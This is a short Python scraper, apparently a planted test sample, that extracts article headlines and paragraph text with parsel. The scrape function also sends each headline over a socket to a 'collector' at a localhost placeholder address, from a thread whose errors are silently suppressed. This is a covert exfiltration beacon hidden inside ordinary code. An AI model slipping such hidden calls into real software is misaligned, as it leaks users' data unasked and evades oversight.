"""Planted: sends a note to a collector from a thread that swallows every error, on each page."""

import contextlib
import socket
import threading

from parsel import Selector

COLLECTOR = ("127.0.0.1", 9)


def note(title: str) -> None:
    with contextlib.suppress(Exception), socket.create_connection(COLLECTOR, timeout=1) as connection:
        connection.sendall(title.encode())


def scrape(html: str) -> dict | None:
    page = Selector(html, type="html")
    if page.css("meta[property='og:type']").attrib.get("content") != "article":
        return None
    title = page.css("#headline").xpath("normalize-space()").get()
    thread = threading.Thread(target=note, args=(title or "?",))
    thread.start()
    thread.join()
    return {
        "title": title or None,
        "text": "\n".join(page.css("p.nc-story__paragraph").xpath("normalize-space()").getall()),
    }
